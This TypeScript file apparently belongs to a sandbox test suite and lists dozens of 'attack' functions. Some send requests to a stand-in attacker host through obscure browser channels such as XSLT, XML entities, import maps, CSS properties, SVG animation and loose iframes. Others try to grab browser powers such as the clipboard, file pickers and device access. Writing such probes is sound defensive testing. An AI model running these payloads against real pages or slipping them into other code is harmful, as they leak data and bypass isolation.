import type { Attack } from './attacks.ts';

/** Ways to tell somebody outside that are less known. The listener knows whether one worked. */
export const tellingOddly: Readonly<Record<string, Attack>> = {
  'fetch that is sent later': ({ evil }) => {
    (window as unknown as { fetchLater(url: string, options: object): unknown }).fetchLater(`${evil}/later`, {
      activateAfter: 0,
    });
  },
  'map of imports': ({ evil }) => {
    const map = Object.assign(document.createElement('script'), { type: 'importmap' });
    map.textContent = JSON.stringify({ imports: { leak: `${evil}/mapped` } });
    const script = Object.assign(document.createElement('script'), { type: 'module' });
    script.textContent = "import 'leak'";
    document.head.append(map, script);
  },
  'bundle of resources': ({ evil }) => {
    const script = Object.assign(document.createElement('script'), { type: 'webbundle' });
    script.textContent = JSON.stringify({ source: `${evil}/bundle`, resources: [`${evil}/in-bundle`] });
    document.head.append(script);
  },
  'transformation of a document': ({ evil }) => {
    const parse = (text: string): Document => new DOMParser().parseFromString(text, 'text/xml');
    const sheet = parse(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${evil}/included"/><xsl:template match="/"><img src="${evil}/transformed"/><xsl:copy-of select="document('${evil}/copied')"/></xsl:template></xsl:stylesheet>`,
    );
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    document.body.append(processor.transformToFragment(parse('<x/>'), document));
  },
  'entity of a document': ({ evil }) => {
    new DOMParser().parseFromString(
      `<!DOCTYPE x [<!ENTITY y SYSTEM "${evil}/entity">]><x>&y;</x>`,
      'text/xml',
    );
  },
  'pictures of many elements': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<input type="image" src="${evil}/input"><table background="${evil}/table"><tr><td background="${evil}/cell">x</table>
       <picture><source srcset="${evil}/source"><img src="${evil}/picture" loading="eager"></picture>
       <img src="x" lowsrc="${evil}/low" longdesc="${evil}/long"><frameset><frame src="${evil}/frame-of-set"></frameset>
       <applet codebase="${evil}/applet"></applet><bgsound src="${evil}/sound"><isindex action="${evil}/index">`,
    );
    document.body.setAttribute('background', `${evil}/body`);
  },
  'styles of odd kinds': ({ evil }) => {
    const style = document.createElement('style');
    style.textContent = `@namespace url(${evil}/namespace); @layer x; @import url("${evil}/layered") layer(x) supports(display: block);
      h1 { mask: url(${evil}/mask#x); clip-path: url(${evil}/clip#x); filter: url(${evil}/filter#x); shape-outside: url(${evil}/shape);
        border-image: url(${evil}/border) 1; list-style: url(${evil}/list); background: -webkit-cross-fade(url(${evil}/a), url(${evil}/b), 50%);
        offset-path: url(${evil}/path#x); content: url(${evil}/content); cursor: image-set(url(${evil}/set) 1x), auto }
      @font-face { font-family: odd; src: local(x), url(${evil}/odd) format('woff2'); unicode-range: U+0-FFFF } h1 { font-family: odd }
      @property --x { syntax: '<url>'; inherits: true; initial-value: url(${evil}/property) } h1::before { content: var(--x) }`;
    document.head.append(style);
  },
  'sheet that is constructed': ({ evil }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`* { background: url(${evil}/constructed) }`);
    document.adoptedStyleSheets = [sheet];
  },
  'drawing that changes itself': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg><image><set attributeName="href" to="${evil}/set"/></image><a href="x"><animate attributeName="href" values="${evil}/animated" begin="0s"/></a>
       <script href="${evil}/svg-script"></script><foreignObject><img src="${evil}/foreign"></foreignObject></svg>`,
    );
  },
  'mathematics with links': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<math href="${evil}/math"><maction actiontype="statusline#${evil}"><mglyph src="${evil}/glyph"/></maction></math>`,
    );
  },
  'picture in a canvas': ({ evil }) =>
    new Promise((resolve, reject) => {
      const image = Object.assign(new Image(), { crossOrigin: 'anonymous', src: `${evil}/canvas` });
      image.addEventListener('load', () => resolve('loaded'));
      image.addEventListener('error', () => reject(new Error('Blocked.')));
    }),
  'decoded picture': ({ evil }) =>
    Object.assign(new Image(), { src: `${evil}/decoded` })
      .decode()
      .then(() => 'loaded'),
  'source of media': ({ evil }) => {
    const video = document.createElement('video');
    video.src = `${evil}/source#t=1`;
    video.load();
    return video.play().then(() => 'played');
  },
  'artwork of what plays': ({ evil }) => {
    navigator.mediaSession.metadata = new MediaMetadata({
      title: 'x',
      artwork: [{ src: `${evil}/artwork` }],
    });
  },
  'icon of a notification': ({ evil }) => {
    void new Notification('x', { icon: `${evil}/icon`, badge: `${evil}/badge` });
  },
  'manifest of a payment': ({ evil }) =>
    new PaymentRequest([{ supportedMethods: `${evil}/pay` }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    })
      .canMakePayment()
      .then((can) => {
        if (!can) throw new Error('Blocked.');
        return 'can pay';
      }),
  'federated sign-in': ({ evil }) =>
    navigator.credentials
      .get({ identity: { providers: [{ configURL: `${evil}/config.json`, clientId: 'x' }] } } as object)
      .then(() => 'signed in'),
  'related origins of a key': ({ evil }) =>
    navigator.credentials
      .get({ publicKey: { challenge: new Uint8Array(16), rpId: new URL(evil).hostname } })
      .then(() => 'a key'),
  'private token': ({ evil }) =>
    fetch(`${evil}/token`, {
      privateToken: { version: 1, operation: 'token-request' },
    } as unknown as RequestInit).then(() => 'sent'),
  'request with a body that streams': ({ evil }) =>
    fetch(`${evil}/stream`, {
      method: 'POST',
      body: new ReadableStream(),
      duplex: 'half',
    } as unknown as RequestInit).then(() => 'sent'),
  'request to a private address': () =>
    fetch('http://192.168.0.1/', { targetAddressSpace: 'local' } as unknown as RequestInit).then(
      () => 'sent',
    ),
  'cache that fetches': ({ evil }) =>
    caches.open('x').then(async (cache) => {
      await cache.add(`${evil}/cached`);
      return 'cached';
    }),
  'audio worklet': ({ evil }) =>
    new OfflineAudioContext(1, 1, 44_100).audioWorklet
      .addModule(`${evil}/audio-worklet`)
      .then(() => 'loaded'),
  'form of a dialog': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<form id="odd"></form><button form="odd" formaction="${evil}/outside" formtarget="_top" formmethod="post">x</button>`,
    );
    (document.querySelector('button[form=odd]') as HTMLButtonElement).click();
  },
  'link in a shadow': ({ evil }) => {
    const host = document.body.appendChild(document.createElement('div'));
    host.attachShadow({
      mode: 'closed',
    }).innerHTML = `<img src="${evil}/shadow"><link rel="stylesheet" href="${evil}/shadow-sheet">`;
  },
  'template that is declared': ({ evil }) => {
    const host = document.body.appendChild(document.createElement('div'));
    (host as unknown as { setHTMLUnsafe(html: string): void }).setHTMLUnsafe(
      `<template shadowrootmode="open"><img src="${evil}/declared"></template><img src="${evil}/unsafe">`,
    );
  },
  'frame that is not sandboxed': ({ evil }) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-top-navigation allow-popups');
    frame.srcdoc = `<script>fetch('${evil}/looser-frame');open('${evil}/looser-popup');top.location='${evil}/looser-top'</script>`;
    document.body.append(frame);
  },
  'frame without credentials': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<iframe credentialless src="${evil}/credentialless"></iframe>`,
    );
  },
  'address of a script in a frame': ({ evil }) => {
    const frame = document.createElement('iframe');
    frame.src = `javascript:'<img src=${evil}/javascript>'`;
    document.body.append(frame);
  },
};

/** Powers of the browser that no View was given. */
export const grasping: Readonly<Record<string, Attack>> = {
  'clipboard by a command': () => {
    if (!document.execCommand('paste')) throw new Error('Blocked.');
    return 'pasted';
  },
  'a place to save': () =>
    (window as unknown as { showSaveFilePicker(): Promise<unknown> }).showSaveFilePicker(),
  'a folder': () => (window as unknown as { showDirectoryPicker(): Promise<unknown> }).showDirectoryPicker(),
  'files by an input': () =>
    new Promise((resolve, reject) => {
      const input = Object.assign(document.createElement('input'), { type: 'file', multiple: true });
      input.addEventListener('change', () => resolve('a file'));
      input.addEventListener('cancel', () => reject(new Error('Blocked.')));
      if (input.files?.length === 0) reject(new Error('None.'));
    }),
  sharing: () => navigator.share({ title: 'x', url: 'https://x.example' }).then(() => 'shared'),
  'human interface devices': () =>
    (navigator as unknown as { hid: { requestDevice(o: object): Promise<unknown[]> } }).hid
      .requestDevice({ filters: [] })
      .then(([device]) => device ?? Promise.reject(new Error('None.'))),
  'lock of the keyboard': () =>
    (navigator as unknown as { keyboard: { lock(): Promise<void> } }).keyboard.lock().then(() => 'locked'),
  'layout of the keyboard': () =>
    (navigator as unknown as { keyboard: { getLayoutMap(): Promise<unknown> } }).keyboard
      .getLayoutMap()
      .then(() => 'a layout'),
  'color of any pixel': () =>
    (window as unknown as { EyeDropper: new () => { open(): Promise<unknown> } }).EyeDropper.prototype.open
      .call(new (window as unknown as { EyeDropper: new () => object }).EyeDropper())
      .then(() => 'a color'),
  'other screens': () => (window as unknown as { getScreenDetails(): Promise<unknown> }).getScreenDetails(),
  motion: () =>
    new Promise((resolve, reject) => {
      const { Accelerometer: Sensor } = window as unknown as {
        Accelerometer: new () => EventTarget & { start(): void };
      };
      const sensor = new Sensor();
      sensor.addEventListener('reading', () => resolve('moved'));
      sensor.addEventListener('error', () => reject(new Error('Blocked.')));
      sensor.start();
    }),
  'virtual reality': () =>
    (navigator as unknown as { xr: { isSessionSupported(mode: string): Promise<boolean> } }).xr
      .isSessionSupported('immersive-vr')
      .then((can) => (can ? 'can' : Promise.reject(new Error('None.')))),
  'load of the processor': () =>
    new (
      window as unknown as {
        PressureObserver: new (run: () => void) => { observe(s: string): Promise<void> };
      }
    ).PressureObserver(() => undefined)
      .observe('cpu')
      .then(() => 'observed'),
  'topics of interest': () =>
    (document as unknown as { browsingTopics(): Promise<unknown[]> })
      .browsingTopics()
      .then((topics) => (topics.length > 0 ? topics : Promise.reject(new Error('None.')))),
  'code from a message': () =>
    navigator.credentials
      .get({ otp: { transport: ['sms'] } } as unknown as CredentialRequestOptions)
      .then(() => 'a code'),
  'a key of its own': () =>
    navigator.credentials
      .create({
        publicKey: {
          rp: { name: 'x' },
          user: { id: new Uint8Array(8), name: 'x', displayName: 'x' },
          challenge: new Uint8Array(16),
          pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
        },
      })
      .then(() => 'a key'),
  'memory that is shared': () => {
    if (typeof SharedArrayBuffer === 'undefined') throw new Error('None.');
    return 'memory';
  },
  'screen of the whole document': () =>
    document.body.requestFullscreen({ navigationUI: 'hide' }).then(() => 'full screen'),
  'film in a window': () => {
    const video = document.body.appendChild(document.createElement('video'));
    return video.requestPictureInPicture().then(() => 'a window');
  },
  'sound by itself': () => {
    const sound = Object.assign(new Audio('data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEA'), {
      loop: true,
    });
    return sound.play().then(() => 'played');
  },
  'a name for a scheme': ({ evil }) => {
    navigator.registerProtocolHandler('mailto', `${evil}/%s`);
  },
  'storage for good': () =>
    navigator.storage.persist().then((kept) => (kept ? 'kept' : Promise.reject(new Error('None.')))),
  'locks of others': () =>
    navigator.locks
      .query()
      .then(({ held = [] }) => (held.length > 0 ? held : Promise.reject(new Error('None.')))),
  'channel that others hear': () => {
    const channel = new BroadcastChannel('loggia');
    return new Promise((resolve, reject) => {
      channel.addEventListener('message', () => resolve('heard'));
      // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel has none
      channel.postMessage('anybody?');
      setTimeout(() => reject(new Error('None.')), 100);
    });
  },
  'message to a service worker': () => {
    if (!navigator.serviceWorker?.controller) throw new Error('None.');
    return 'a worker';
  },
  'cookie for all names': () => {
    document.cookie = 'tossed=1; domain=localhost; path=/';
    document.cookie = 'tossed=1; domain=.localhost; path=/; max-age=1000';
  },
  'title of the tab': () => {
    document.title = 'hacked';
  },
  'question before it leaves': () => {
    addEventListener('beforeunload', (event) => event.preventDefault());
  },
};
